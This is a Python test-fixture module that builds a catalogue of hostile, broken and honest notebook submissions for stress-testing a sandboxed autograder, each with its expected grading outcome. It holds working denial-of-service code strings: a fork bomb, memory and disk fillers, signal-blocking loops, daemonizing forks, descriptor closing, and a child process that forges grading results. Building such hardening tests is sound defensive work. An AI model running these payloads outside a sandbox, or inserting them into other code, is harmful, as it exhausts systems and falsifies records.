"""A catalogue of hand-ins that a grader must survive, with the outcome that each has to have.

Generate them, never run them outside a wall: they hold fork bombs, memory hogs, disk fillers and kill(-1). Apart from
that, what they attack beside their own process is one canary file (and gradebooks in the folders above it) and one port
of 127.0.0.1, both named when a class is written; system files are only ever rewritten with their own content.

An attack that gains has to gain from nothing: unless said otherwise, attackers' functions are wrong (zeros in the
right shapes), so every point they get is stolen. Where right functions stand beside an attack, they keep their points.
"""

import io
import json
import os
import stat
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from functools import cache
from pathlib import Path

from bpgrade import sample

from tests.grading import hostile_output
from tests.notebooks import brief

ROOT = Path(__file__).resolve().parents[2]
NEURON, LAYERS = "01_single_neuron", "02_two_layer_network"

POINTS = {
    NEURON: {
        "sigmoid": 1,
        "neuron_forward": 1,
        "bce": 1,
        "bce_backward": 1,
        "sigmoid_backward": 1,
        "neuron_backward": 2,
        "gradient_step": 3,
        "train_neuron": 3,
    },
    LAYERS: {
        "dense": 1,
        "relu": 1,
        "two_layer_forward": 2,
        "dense_backward": 3,
        "relu_backward": 1,
        "two_layer_backward": 4,
        "cheatsheet_gradients": 4,
    },
}

# What GRADING.md's section "Hand-ins a grader must survive" lists, item by item; each kind belongs to one of them.
LINES = {
    "right": "Right work → full",
    "warns": "also when it warns",
    "prints": "prints 40 MB",
    "slow": "is slow but within limits",
    "helpers": "has helper cells",
    "order": "runs cells out of order",
    "untouched": "Untouched → 0 not attempted",
    "half": "Half right → partial",
    "loop": "Infinite loop → time limit",
    "stubborn": "loop ignoring interrupts",
    "sleep": "sleep",
    "at_exit": "thread at exit",
    "exit": "os._exit → that cell's loss only",
    "segfault": "segfault",
    "recursion": "deep recursion",
    "memory": "memory hog",
    "fork_bomb": "fork bomb",
    "daemon": "daemon child",
    "disk": "full disk",
    "truncated": "Truncated JSON → clear reason",
    "empty": "empty file",
    "encoding": "wrong encoding",
    "nbformat": "nbformat 3 or unknown",
    "misplaced": "missing or renamed notebook",
    "stripped": "stripped metadata",
    "bomb": "zip bomb",
    "symlink": "symlink",
    "dotdot": "../ names",
    "copied_test": "Copied test cell → official ones used, flagged",
    "split_test": "split",
    "deleted_test": "deleted",
    "edited_test": "edited test cell",
    "more_points": "points=100",
    "kernelspec": "unknown kernelspec or schema",
    "equal": "Always-equal objects → no point gained, flagged",
    "subclass": "array subclasses",
    "patched": "patched numpy.testing/builtins/bpkit",
    "transformer": "AST and input transformers",
    "displayhook": "displayhook",
    "forged": "forged outputs or messages",
    "beside": "a numpy.py beside the notebook",
    "reads": "reading tests, solutions/, gradebook.db",
    "others": "others' work",
    "network": "network",
    "reference": "Calling or copying the reference → judged as what it is",
    "borrowed": "finite differences or an autodiff library passed off as a derivation",
    "hard_coded": "hard-coded visible cases",
    "one_shape": "right only for one shape or dtype",
    "mutated": "input mutated",
    "state": "state between calls",
    "nan": "NaN",
    "markup": "<script>, ANSI, =cmd in outputs, names, comments → escaped in feedback, page and CSV",
    # Beyond the list: what its words imply for this design.
    "runner": "the process around the student's code is attacked from inside",
    "wall": "what the wall is made of is attacked: signals, limits, namespaces, files",
    "odd_values": "results that are strange, and right or wrong all the same",
    "odd_state": "a process left in a strange state by honest or careless code",
    "flood": "what comes back from behind the wall is without measure",
    "smuggled": "what comes back is of a kind that a page could run, or none at all",
}


@dataclass(frozen=True)
class Target:
    """What the attacks of one class aim at.

    Attributes:
        canary: a file outside every hand-in; afterwards it must be untouched, and its content shown nowhere.
        port: a port of 127.0.0.1 where the test listens; nothing may arrive.
    """

    canary: str = "/nonexistent/canary"
    port: int = 9


@dataclass(frozen=True)
class Link:
    """A symbolic link in place of a file."""

    to: str


@dataclass(frozen=True)
class Fifo:
    """A named pipe in place of a file: opening it waits for ever."""


@dataclass(frozen=True)
class Folder:
    """A folder in place of a file."""


@dataclass(frozen=True)
class Sparse:
    """A file of zeros that takes no room on the disk."""

    size: int


Special = Link | Fifo | Folder | Sparse
Files = dict[str, bytes | Special]


@dataclass(frozen=True)
class Expected:
    """The outcome a hand-in has to have.

    Attributes:
        least, most: bounds of the points of every exercise; where they are the same, these are the points. They
            hold for a record with status "graded"; a broken one has none.
        verdicts: for some exercises, the verdicts allowed.
        status: the statuses allowed, of "graded" and "broken". A broken one needs a reason, never a silent 0.
        flagged: "yes", "no" or "any".
        flags: kinds of flags that have to be among those raised.
        why: one sentence.
    """

    least: dict[str, float]
    most: dict[str, float]
    verdicts: dict[str, tuple[str, ...]]
    status: tuple[str, ...]
    flagged: str
    flags: tuple[str, ...]
    why: str

    @property
    def exact(self) -> bool:
        """Whether every exercise has one right number of points."""
        return self.least == self.most

    @property
    def total(self) -> tuple[float, float]:
        """Bounds of the whole score."""
        return sum(self.least.values()), sum(self.most.values())


@dataclass(frozen=True)
class Kind:
    """One hand-in.

    Attributes:
        name: its id, letters and underscores.
        group: a key of LINES.
        make: from the released notebook filled with `work`, a target and the notebook's stem to files.
        expected: what has to come of it.
        lesson: id of the lesson.
        work: "right", "wrong" or "blank" functions, before `answers` and `make`.
        answers: cells of some blanks, by exercise, in place of `work`.
        student: the student's id; the kind's name unless the id is itself the attack.
        never_raw: texts that must not appear unescaped in a page made from it.
        harmless: its functions may be run in any process.
    """

    name: str
    group: str
    make: Callable[[sample.Notebook, Target, str], Files]
    expected: Expected
    lesson: str = LAYERS
    work: str = "right"
    answers: dict[str, str] = field(default_factory=dict)
    student: str = ""
    never_raw: tuple[str, ...] = ()
    harmless: bool = False

    def files(self, target: Target = Target()) -> Files:
        """The files of this hand-in, by name; the same target gives the same bytes."""
        nb, right, stem = _lesson(self.lesson)
        work = {"right": right, "wrong": WRONG[self.lesson], "blank": {}}[self.work]
        return self.make(sample.fill(nb, work | self.answers), target, stem)

    @property
    def id(self) -> str:
        return self.student or self.name


KINDS: dict[str, Kind] = {}


def write_class(
    into: Path, lesson: str = LAYERS, kinds: list[str] | None = None, canary: str = "/nonexistent", port: int = 9
) -> dict[str, Kind]:
    """Write a class of hostile, broken, odd and honest hand-ins as nbgrader's submitted/ tree.

    Args:
        into: the submitted/ folder.
        lesson: id of the lesson; kinds of other lessons are left out.
        kinds: names of kinds; all of the lesson if None.
        canary: path of a file that has to stay as it is.
        port: a port of 127.0.0.1 at which nothing may arrive.
    Returns:
        The kinds written, by student id.
    """
    chosen = [
        KINDS[name] for name in (KINDS if kinds is None else dict.fromkeys(kinds)) if KINDS[name].lesson == lesson
    ]
    target = Target(canary, port)
    for minute, kind in enumerate(chosen):
        files = kind.files(target)
        sample.place(into, kind.id, lesson, {n: c for n, c in files.items() if isinstance(c, bytes)}, minute)
        for name, special in files.items():
            if not isinstance(special, bytes):
                _place(into / kind.id / lesson / name, special)
    return {kind.id: kind for kind in chosen}


def _place(path: Path, special: Special) -> None:
    if isinstance(special, Link):
        path.symlink_to(special.to)
    elif isinstance(special, Fifo):
        os.mkfifo(path)
    elif isinstance(special, Folder):
        path.mkdir()
    else:
        with path.open("wb") as file:
            file.truncate(special.size)


@cache
def _lesson(lesson: str) -> tuple[sample.Notebook, dict[str, str], str]:
    return brief(sample.released(ROOT, lesson)), sample.answers(ROOT, lesson), sample.stem_of(ROOT, lesson)


# ------------------------------------------------------------------------------------------------- making kinds


def _expect(lesson: str, work: str, points: dict, why: str, **more) -> Expected:
    """Full points for right work, none for wrong or blank work, but for the exercises in `points`: n, or (least, most)."""
    base = {name: full if work == "right" else 0 for name, full in POINTS[lesson].items()}
    pairs = {name: points.get(name, base[name]) for name in base}
    least = {name: float(pair[0] if isinstance(pair, tuple) else pair) for name, pair in pairs.items()}
    most = {name: float(pair[1] if isinstance(pair, tuple) else pair) for name, pair in pairs.items()}
    verdicts = {name: (v,) if isinstance(v, str) else v for name, v in more.get("verdicts", {}).items()}
    return Expected(
        least, most, verdicts, more.get("status", ("graded",)), more.get("flagged", "any"), more.get("flags", ()), why
    )


def add(name, group, why, make, *, lesson=LAYERS, work="right", answers=None, points=None, **more) -> None:
    """Register a kind; `points` says where it differs from what `work` earns."""
    if name in KINDS:
        raise ValueError(f"there are two kinds called {name}")
    own = {key: more.pop(key) for key in ("student", "never_raw", "harmless") if key in more}
    expected = _expect(lesson, work, points or {}, why, **more)
    KINDS[name] = Kind(name, group, make, expected, lesson, work, answers or {}, **own)


def plain(nb: sample.Notebook, target: Target, stem: str) -> Files:
    """The notebook as it is, under its name."""
    return {f"{stem}.ipynb": _dump(nb)}


def attack(name, group, why, text, *, at="start", work="wrong", flagged="yes", **more) -> None:
    """A cell of the student's own, after the imports or at the end; the functions are wrong unless `work` says so."""

    def make(nb, target, stem):
        _insert(nb, at, _aimed(text, target))
        return plain(nb, target, stem)

    add(name, group, why, make, work=work, flagged=flagged, **more)


def careless(name, group, why, text, *, at="start", flagged="any", **more) -> None:
    """A cell of the student's own that does harm, beside right functions, which keep all their points."""
    attack(name, group, why, text, at=at, work="right", flagged=flagged, **more)


def answer(name, group, why, answers, *, flagged="any", **more) -> None:
    """Some functions replaced; the others are right."""

    def make(nb, target, stem):
        for cell in nb["cells"]:
            cell["source"] = _aimed(sample.source(cell), target)
        return plain(nb, target, stem)

    add(name, group, why, make, answers=answers, flagged=flagged, **more)


def last(name, group, why, body, *, verdicts=(), points=0, **more) -> None:
    """A body for cheatsheet_gradients, on which nothing else depends; all other functions are right."""
    head = "def cheatsheet_gradients(X, y_true, W1, b1, W2, b2):\n"
    text = head + "".join(f"    {line}\n" for line in body.strip("\n").splitlines())
    allowed = {"cheatsheet_gradients": verdicts} if verdicts else {}
    more["points"] = {"cheatsheet_gradients": points}
    answer(name, group, why, {"cheatsheet_gradients": text}, verdicts=allowed, **more)


def changed(name, group, why, change, **more) -> None:
    """The notebook's data is changed in place by `change(nb)`."""

    def make(nb, target, stem):
        change(nb)
        return plain(nb, target, stem)

    add(name, group, why, make, **more)


def file(name, group, why, content, *, status=("graded", "broken"), **more) -> None:
    """The file's bytes are made from those of a notebook with right functions."""
    add(name, group, why, lambda nb, target, stem: {f"{stem}.ipynb": content(_dump(nb))}, status=status, **more)


def _dump(nb: sample.Notebook) -> bytes:
    return json.dumps(nb).encode()  # ASCII, for a notebook may hold halves of surrogate pairs


def _aimed(text: str, target: Target) -> str:
    return text.replace("CANARY", repr(target.canary)).replace("PORT", str(target.port))


def _insert(nb: sample.Notebook, at: str, text: str) -> None:
    places = {"start": 2, "end": len(nb["cells"])}
    before = places[at] if at in places else nb["cells"].index(sample.checks(nb)[at])
    sample.insert(nb, before, sample.code(text.strip("\n")))


def _zero(signature: str, value: str) -> str:
    return f"def {signature}:\n    return {value}\n"


WRONG = {
    NEURON: {
        "sigmoid": _zero("sigmoid(z)", "z * 0.0"),
        "neuron_forward": _zero("neuron_forward(X, w, b)", "np.zeros(len(X))"),
        "bce": _zero("bce(y_true, a)", "0.0"),
        "bce_backward": _zero("bce_backward(y_true, a)", "np.zeros(a.shape)"),
        "sigmoid_backward": _zero("sigmoid_backward(da, a)", "np.zeros(a.shape)"),
        "neuron_backward": _zero("neuron_backward(X, y_true, a)", "np.zeros(X.shape[1]), 0.0"),
        "gradient_step": _zero(
            "gradient_step(params, grads, lr)", "{key: value * 0.0 for key, value in params.items()}"
        ),
        "train_neuron": _zero("train_neuron(X, y_true, lr, steps)", "np.ones(X.shape[1]), 1.0, [0.0] * steps"),
    },
    LAYERS: {
        "dense": _zero("dense(X, W, b)", "np.zeros((len(X), W.shape[1]))"),
        "relu": _zero("relu(z)", "z * 0.0 - 1.0"),
        "two_layer_forward": _zero(
            "two_layer_forward(X, params)",
            "X[:, :1] @ params['W2'][:1] * 0.0, {'X': X * 0, 'z1': X @ params['W1'] * 0, 'a1': X @ params['W1'] * 0, "
            "'z2': X[:, :1] @ params['W2'][:1] * 0, 'a2': X[:, :1] @ params['W2'][:1] * 0}",
        ),
        "dense_backward": _zero("dense_backward(dZ, X, W)", "X * 0.0, W * 0.0, dZ[0] * 0.0"),
        "relu_backward": _zero("relu_backward(da, z)", "z * 0.0"),
        "two_layer_backward": _zero(
            "two_layer_backward(y_true, cache, params)", "{key: value * 0.0 for key, value in params.items()}"
        ),
        "cheatsheet_gradients": _zero(
            "cheatsheet_gradients(X, y_true, W1, b1, W2, b2)",
            "{'W1': W1 * 0.0, 'b1': b1 * 0.0, 'W2': W2 * 0.0, 'b2': b2 * 0.0}",
        ),
    },
}
# The signatures of lesson 02, for attackers that answer every exercise in the same way.
SIGNATURES = [text[4 : text.index(":")] for text in WRONG[LAYERS].values()]


def every(body: str) -> dict[str, str]:
    """All seven functions with one body, in which ARGS stands for the function's own arguments."""
    lines = "".join(f"    {line}\n" for line in body.strip("\n").splitlines())
    return {
        name: f"def {name}({arguments}:\n{lines.replace('ARGS', arguments[:-1])}"
        for name, _, arguments in (signature.partition("(") for signature in SIGNATURES)
    }


RIGHT_BODY = """
a1 = sigmoid(X @ W1 + b1)
a2 = sigmoid(a1 @ W2 + b2)
dz2 = 2 * (a2 - y_true) / a2.size * a2 * (1 - a2)
dz1 = dz2 @ W2.T * a1 * (1 - a1)
return {"W1": X.T @ dz1, "b1": dz1.sum(axis=0), "W2": a1.T @ dz2, "b2": dz2.sum(axis=0)}
"""
NOTHING = dict.fromkeys(POINTS[LAYERS], 0)
ALONE = {"cheatsheet_gradients": 0}


# ------------------------------------------------------------------------------------------------- honest work

changed("honest_plain", "right", "the solution itself", lambda nb: None, flagged="no", harmless=True)
last(
    "honest_loops",
    "right",
    "loops are slow but right",
    """
n, d = X.shape
h, k = W2.shape
grads = {"W1": np.zeros((d, h)), "b1": np.zeros(h), "W2": np.zeros((h, k)), "b2": np.zeros(k)}
for i in range(n):
    a1 = sigmoid(X[i] @ W1 + b1)
    a2 = sigmoid(a1 @ W2 + b2)
    for o in range(k):
        dz2 = 2 * (a2[o] - y_true[i, o]) / y_true.size * a2[o] * (1 - a2[o])
        grads["b2"][o] += dz2
        for j in range(h):
            grads["W2"][j, o] += dz2 * a1[j]
            dz1 = dz2 * W2[j, o] * a1[j] * (1 - a1[j])
            grads["b1"][j] += dz1
            for c in range(d):
                grads["W1"][c, j] += dz1 * X[i, c]
return grads
""",
    points=4,
    verdicts="right",
    flagged="no",
    harmless=True,
)
answer(
    "honest_einsum",
    "right",
    "another notation for the same sums",
    {
        "dense": "def dense(X, W, b):\n    return np.einsum('nd,dh->nh', X, W) + b",
        "dense_backward": """
def dense_backward(dZ, X, W):
    return np.einsum('nh,dh->nd', dZ, W), np.einsum('nd,nh->dh', X, dZ), np.einsum('nh->h', dZ)
""",
    },
    flagged="no",
    harmless=True,
)
answer(
    "honest_warns",
    "warns",
    "a warning costs nothing",
    {
        "relu": "import warnings\ndef relu(z):\n    warnings.warn('slow')\n    return np.log(np.exp(0.0)) + (z + abs(z)) / 2"
    },
    flagged="no",
    harmless=True,
)
last(
    "honest_numpy_warning",
    "warns",
    "NumPy warns of a division by zero on a way that is not used",
    f"unused = np.ones(1) / np.zeros(1)\n{RIGHT_BODY}",
    points=4,
    verdicts="right",
    flagged="no",
    harmless=True,
)
careless(
    "honest_stderr",
    "warns",
    "text on stderr costs nothing",
    "import sys; print('!' * 500, file=sys.stderr)",
    flagged="no",
)
last(
    "honest_prints",
    "prints",
    "prints within reason, inside a function",
    f"for i in range(50): print('step', i, X.shape)\n{RIGHT_BODY}",
    points=4,
    verdicts="right",
    flagged="no",
    harmless=True,
)
careless(
    "honest_prints_5000_lines", "prints", "a log of 5,000 lines", "for i in range(5000): print('step', i)", flagged="no"
)
careless("prints_40_mb", "prints", "output is cut, points are not", "for i in range(400): print('x' * 100_000)")
last(
    "prints_40_mb_in_function",
    "prints",
    "the same while the function is tried",
    f"for i in range(50): print('x' * 100_000)\n{RIGHT_BODY}",
    points=4,
    verdicts="right",
)
careless("prints_one_40_mb_line", "prints", "one line without an end", "print('x' * 40_000_000, end='')")
careless(
    "prints_through_fd_1", "prints", "past sys.stdout", "import os\nfor i in range(400): os.write(1, b'x' * 100_000)"
)
last(
    "honest_slow",
    "slow",
    "about a second for the whole check",
    f"import time\ntime.sleep(0.1)\n{RIGHT_BODY}",
    points=4,
    verdicts="right",
    flagged="no",
)


def _helpers(nb: sample.Notebook) -> None:
    _insert(nb, "start", "def column_sums(Z):\n    return Z.sum(axis=0)\n\ntimes = np.matmul")
    sample.insert(nb, 0, sample.markdown("# My copy\n\nwith notes"))


changed(
    "honest_helpers",
    "helpers",
    "helper cells are the student's own",
    _helpers,
    answers={
        "dense_backward": "def dense_backward(dZ, X, W):\n    return times(dZ, W.T), times(X.T, dZ), column_sums(dZ)"
    },
    flagged="no",
)
careless(
    "honest_checks_often",
    "helpers",
    "check and hint in own cells do nothing",
    "hint('dense')\ncheck(relu)",
    at="end",
    flagged="no",
)
careless(
    "honest_error_cell",
    "helpers",
    "an experiment that fails is no loss",
    "dense(np.ones(3), None)",
    at="end",
    flagged="no",
)
careless(
    "honest_figure",
    "helpers",
    "a figure of the student's own",
    "plt.plot([1, 2]); plt.show(); plt.close('all')",
    flagged="no",
)
careless(
    "honest_await",
    "helpers",
    "top-level await works in a notebook",
    "import asyncio\nawait asyncio.sleep(0.01)",
    flagged="no",
)


def _out_of_order(nb: sample.Notebook) -> None:
    for number, cell in enumerate(reversed(nb["cells"])):
        if cell["cell_type"] == "code":
            cell["execution_count"] = number + 1


changed(
    "honest_out_of_order",
    "order",
    "the numbers beside the cells mean nothing",
    _out_of_order,
    flagged="no",
    harmless=True,
)
attack(
    "honest_redefined_before_check",
    "order",
    "the draft in the blank is mended in a cell before the check",
    "def dense(X, W, b):\n    return np.matmul(X, W) + b",
    at="dense",
    work="right",
    answers={"dense": "def dense(X, W, b):\n    return X @ W"},
    flagged="no",
    harmless=True,
)
careless(
    "honest_redefined_later",
    "order",
    "a second version at the end, right as well",
    "def relu(z):\n    return np.where(z > 0, z, 0.0)",
    at="end",
    flagged="no",
)
attack(
    "helper_at_the_end",
    "order",
    "the helper stands below the check; in the order of the notebook it is not there yet, so either outcome can be defended",
    "def column_sums(Z):\n    return Z.sum(axis=0)",
    at="end",
    work="right",
    answers={"dense_backward": "def dense_backward(dZ, X, W):\n    return dZ @ W.T, X.T @ dZ, column_sums(dZ)"},
    points={"dense_backward": (0, 3), "two_layer_backward": (0, 4), "cheatsheet_gradients": (0, 4)},
    verdicts={"dense_backward": ("raised", "right")},
    flagged="no",
)
careless(
    "honest_notes",
    "right",
    "unicode, comments and text",
    "# μ, 梯度, градиент ✓\nσ = sigmoid\nprint('∂L/∂z →', σ(0.0))",
    flagged="no",
)
answer(
    "honest_earlier_lessons",
    "right",
    "functions of earlier lessons may be used",
    {
        "cheatsheet_gradients": """
from bpkit import sigmoid_backward

def cheatsheet_gradients(X, y_true, W1, b1, W2, b2):
    a1 = sigmoid(X @ W1 + b1)
    a2 = sigmoid(a1 @ W2 + b2)
    dz2 = sigmoid_backward(2 * (a2 - y_true) / a2.size, a2)
    da1, dW2, db2 = dense_backward(dz2, a1, W2)
    _, dW1, db1 = dense_backward(sigmoid_backward(da1, a1), X, W1)
    return {"W1": dW1, "b1": db1, "W2": dW2, "b2": db2}
"""
    },
    flagged="no",
    harmless=True,
)
changed(
    "honest_lesson_01",
    "right",
    "the solution of lesson 01",
    lambda nb: None,
    lesson=NEURON,
    flagged="no",
    harmless=True,
)
changed(
    "untouched",
    "untouched",
    "every blank says so itself",
    lambda nb: None,
    work="blank",
    verdicts=dict.fromkeys(POINTS[LAYERS], "not_attempted"),
    flagged="no",
    harmless=True,
)
changed(
    "untouched_lesson_01",
    "untouched",
    "the same for lesson 01",
    lambda nb: None,
    lesson=NEURON,
    work="blank",
    verdicts=dict.fromkeys(POINTS[NEURON], "not_attempted"),
    flagged="no",
    harmless=True,
)
changed(
    "half_right",
    "half",
    "two right, one right in two of three results, the rest blank",
    lambda nb: None,
    work="blank",
    answers={
        "dense": "def dense(X, W, b):\n    return X @ W + b",
        "relu": "def relu(z):\n    return np.maximum(z, 0)",
        "dense_backward": "def dense_backward(dZ, X, W):\n    return dZ @ W.T, X.T @ dZ, dZ",
    },
    points={"dense": 1, "relu": 1, "dense_backward": 2},
    verdicts={"dense_backward": ("wrong_shape", "looks_like"), "two_layer_backward": "not_attempted"},
    flagged="no",
    harmless=True,
)
answer(
    "half_right_lesson_01",
    "half",
    "a mistake with a name costs its own exercise and what builds on it",
    {
        "neuron_backward": "def neuron_backward(X, y_true, a):\n    dz = (a - y_true) / len(X)\n    return X.T @ dz, dz.mean()"
    },
    lesson=NEURON,
    points={"neuron_backward": 1, "train_neuron": (0, 2)},
    verdicts={"neuron_backward": "looks_like"},
    flagged="no",
    harmless=True,
)

# ------------------------------------------------------------------------------------------------- time

last("loop_in_function", "loop", "that exercise 0, the rest graded", "while True: pass", verdicts="time_limit")
careless("loop_in_cell", "loop", "the cell is lost, the functions are not", "while True: pass")
answer("loops_everywhere", "loop", "the whole hand-in is bounded", every("while True: pass"), points=NOTHING)
last(
    "loop_in_c",
    "loop",
    "one call that never returns to the interpreter",
    "return 10 ** 10 ** 9 % 7",
    verdicts=("time_limit", "raised", "crashed"),
)
last(
    "loop_in_regex",
    "loop",
    "a regular expression that backtracks",
    "import re\nreturn re.match('(a+)+$', 'a' * 60 + 'b')",
    verdicts="time_limit",
)
careless("await_forever", "loop", "waits for an event that never comes", "import asyncio\nawait asyncio.Event().wait()")
last(
    "loop_in_result",
    "loop",
    "the result is a list that never ends when it is read",
    "class Endless(list):\n    def __iter__(self):\n        while True: yield 0.0\nreturn Endless([1.0])",
    verdicts=("time_limit", "wrong_type", "raised", "crashed"),
)
last(
    "loop_in_error_text",
    "loop",
    "the exception's text takes for ever",
    "class Slow(Exception):\n    def __str__(self):\n        while True: pass\nraise Slow",
    verdicts=("time_limit", "raised"),
)
last(
    "loop_catches_everything",
    "stubborn",
    "an interrupt is an exception, and this catches it",
    "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
    verdicts="time_limit",
)
last(
    "loop_blocks_signals",
    "stubborn",
    "all signals blocked and ignored; only SIGKILL is left",
    """
import signal
signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
for number in (signal.SIGINT, signal.SIGTERM, signal.SIGALRM, signal.SIGXCPU):
    signal.signal(number, signal.SIG_IGN)
signal.setitimer(signal.ITIMER_REAL, 0)
while True: pass
""",
    verdicts="time_limit",
)
careless(
    "alarm_survives",
    "stubborn",
    "an alarm of the student's own must not end later cells",
    "import signal\nsignal.signal(signal.SIGALRM, lambda *a: 1 / 0)\nsignal.setitimer(signal.ITIMER_REAL, 0.01, 0.01)",
    points={name: (0, full) for name, full in POINTS[LAYERS].items()},
)
last(
    "clock_patched",
    "stubborn",
    "a limit measured with the student's clock would never come",
    "import time\ntime.time = time.monotonic = time.perf_counter = lambda: 0.0\nwhile True: pass",
    verdicts="time_limit",
)
last("sleeps", "sleep", "sleeping is no work", "import time\ntime.sleep(10 ** 6)", verdicts="time_limit")
last(
    "stops_itself",
    "sleep",
    "SIGSTOP: alive, and silent",
    "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)",
    verdicts=("time_limit", "crashed", "wrong_type"),
)
last(
    "waits_for_input",
    "sleep",
    "there is nobody to type",
    "return input('? ')",
    verdicts=("raised", "time_limit", "crashed"),
)
careless(
    "thread_at_exit",
    "at_exit",
    "a thread that would keep the process alive",
    "import threading, time\nthreading.Thread(target=lambda: time.sleep(10 ** 6), daemon=False).start()",
)
careless(
    "loop_at_exit",
    "at_exit",
    "an exit handler and a finaliser that never end",
    """
import atexit
atexit.register(lambda: [None for _ in iter(int, 1)])
class Clings:
    def __del__(self):
        while True: pass
clings = Clings()
""",
)

# ------------------------------------------------------------------------------------------------- crashes, resources

last("os_exit", "exit", "only this exercise is lost", "import os\nos._exit(0)", verdicts="crashed")
careless("os_exit_in_cell", "exit", "only the student's own cell is lost", "import os\nos._exit(0)")
last(
    "sys_exit",
    "exit",
    "SystemExit in a function is an error of the function",
    "raise SystemExit(0)",
    verdicts=("raised", "crashed"),
)
careless("system_exit_in_cell", "exit", "SystemExit in a cell ends the cell", "raise SystemExit")
careless("ask_exit", "exit", "IPython is asked to leave", "get_ipython().ask_exit()\nquit()")
last(
    "keyboard_interrupt",
    "exit",
    "pretends that somebody pressed Ctrl-C",
    "raise KeyboardInterrupt",
    verdicts=("raised", "crashed", "time_limit"),
)
last(
    "kills_itself",
    "exit",
    "SIGKILL to itself, which the first process of a namespace does not take",
    "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)",
    verdicts=("crashed", "raised", "time_limit", "wrong_type"),
)
answer(
    "exits_everywhere",
    "exit",
    "every exercise crashes, none holds the class up",
    every("import os; os._exit(1)"),
    points=NOTHING,
)
careless("exit_at_exit", "exit", "an exit code of its own choice", "import atexit, os\natexit.register(os._exit, 0)")
last("segfault", "segfault", "a null pointer", "import ctypes\nctypes.string_at(0)", verdicts="crashed")
careless(
    "segfault_in_cell", "segfault", "a null pointer in the student's own cell", "import ctypes\nctypes.string_at(0)"
)
last("aborts", "segfault", "abort()", "import os\nos.abort()", verdicts="crashed")
last(
    "recursion",
    "recursion",
    "ordinary endless recursion",
    "return cheatsheet_gradients(X, y_true, W1, b1, W2, b2)",
    verdicts=("raised", "crashed"),
)
last(
    "recursion_crash",
    "recursion",
    "the stack itself runs over",
    "import sys\nsys.setrecursionlimit(10 ** 9)\nf = lambda n: sorted([n], key=lambda m: f(m + 1))\nreturn f(0)",
    verdicts=("crashed", "raised", "time_limit"),
)
careless(
    "parser_recursion",
    "recursion",
    "the compiler's stack runs over",
    "import ast\ncompile('-' * 10 ** 6 + '1', '', 'eval')",
)
last(
    "memory",
    "memory",
    "8 GB at once",
    "return {'W1': np.ones(10 ** 9), 'b1': b1, 'W2': W2, 'b2': b2}",
    verdicts=("raised", "crashed"),
)
careless(
    "memory_in_cell",
    "memory",
    "grows until it is stopped",
    "hog = []\nwhile True: hog.append(bytearray(b'x' * 10 ** 7))",
)
last(
    "memory_by_view",
    "memory",
    "a view of one number that has 1e12 entries; copying it would take 8 TB",
    "return {'W1': np.broadcast_to(0.0, (10 ** 6, 10 ** 6)), 'b1': b1, 'W2': W2, 'b2': b2}",
    verdicts=("raised", "wrong_shape", "wrong_type", "crashed", "no_record"),
)
careless(
    "memory_shared",
    "memory",
    "memory that belongs to no process",
    "import mmap\nkept = []\nfor i in range(100):\n    kept.append(mmap.mmap(-1, 10 ** 8)); kept[-1].write(b'x' * 10 ** 8)",
)
careless("fork_bomb", "fork_bomb", "stopped at the process limit, all gone", "import os\nwhile True: os.fork()")
careless(
    "sleepers",
    "fork_bomb",
    "200 children that sleep",
    "import subprocess\nchildren = [subprocess.Popen(['sleep', '1000']) for _ in range(200)]",
)
careless(
    "threads",
    "fork_bomb",
    "threads until there are no more",
    "import threading, time\nwhile True: threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()",
)
careless(
    "daemon",
    "daemon",
    "a double fork into a session of its own",
    """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for fd in range(256):
            try: os.close(fd)
            except OSError: pass
        time.sleep(1000)
    os._exit(0)
""",
)
careless(
    "nohup",
    "daemon",
    "a daemon made by the shell",
    "!nohup setsid sleep 1000 > /dev/null 2>&1 &",
)
attack(
    "child_answers_later",
    "daemon",
    "a child keeps every file open and writes forged results while later cells are judged",
    """
import json, os, struct, time
if os.fork() == 0:
    body = json.dumps({"verdict": "right", "score": 1.0, "points": 4}).encode()
    for _ in range(20_000):
        for fd in range(3, 64):
            try: os.write(fd, struct.pack(">I", len(body)) + body)
            except OSError: pass
        time.sleep(0.001)
    os._exit(0)
""",
    flagged="any",
)
careless(
    "disk_full",
    "disk",
    "fills every place it may write to",
    """
import os
for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", os.getcwd(), os.path.expanduser("~")):
    try:
        with open(os.path.join(folder, "fill"), "wb") as file:
            for _ in range(3000): file.write(b"x" * 10 ** 6)
    except OSError as error:
        print(folder, error)
""",
)
careless(
    "inodes_full",
    "disk",
    "a million small files",
    "import os\nfor i in range(10 ** 6):\n    with open(f'/tmp/f{i}', 'w'): pass",
)
careless("files_open", "disk", "every file descriptor used up", "kept = []\nwhile True: kept.append(open('/dev/null'))")
careless(
    "files_closed",
    "disk",
    "every file descriptor closed: the process can say nothing any more",
    "import os\nos.closerange(0, 4096)",
)
careless(
    "files_swapped",
    "disk",
    "every file descriptor now leads to /dev/null, and nothing raises",
    "import os\nnull = os.open('/dev/null', os.O_RDWR)\nfor fd in range(256):\n    if fd != null: os.dup2(null, fd)",
)
careless("displays", "odd_state", "a million outputs", "for i in range(10 ** 6): display(i)")
careless("figures", "odd_state", "10,000 figures", "for i in range(10_000): plt.figure(); plt.plot([0, i])")

# ------------------------------------------------------------------------------------------------- broken files

file("truncated", "truncated", "no notebook can be read", lambda raw: raw[: len(raw) // 2], status=("broken",))
file(
    "truncated_by_one",
    "truncated",
    "the last brace is missing; a repair may be possible",
    lambda raw: raw.rstrip()[:-1],
)
file("nested_json", "truncated", "100,000 brackets", lambda raw: b"[" * 100_000, status=("broken",))
file("json_list", "truncated", "JSON, but no notebook", lambda raw: b"[1, 2, 3]", status=("broken",))
file("json_null", "truncated", "JSON, but no notebook", lambda raw: b"null", status=("broken",))
file("json_number", "truncated", "a number that Python refuses to read", lambda raw: b"9" * 5000, status=("broken",))
file(
    "json_cells_text",
    "truncated",
    "cells is text",
    lambda raw: b'{"cells": "x", "metadata": {}, "nbformat": 4}',
    status=("broken",),
)
file(
    "json_no_cells",
    "truncated",
    "no cells at all",
    lambda raw: b'{"nbformat": 4, "nbformat_minor": 5, "metadata": {}}',
    status=("broken",),
)
file(
    "python_script",
    "truncated",
    "a script under the notebook's name",
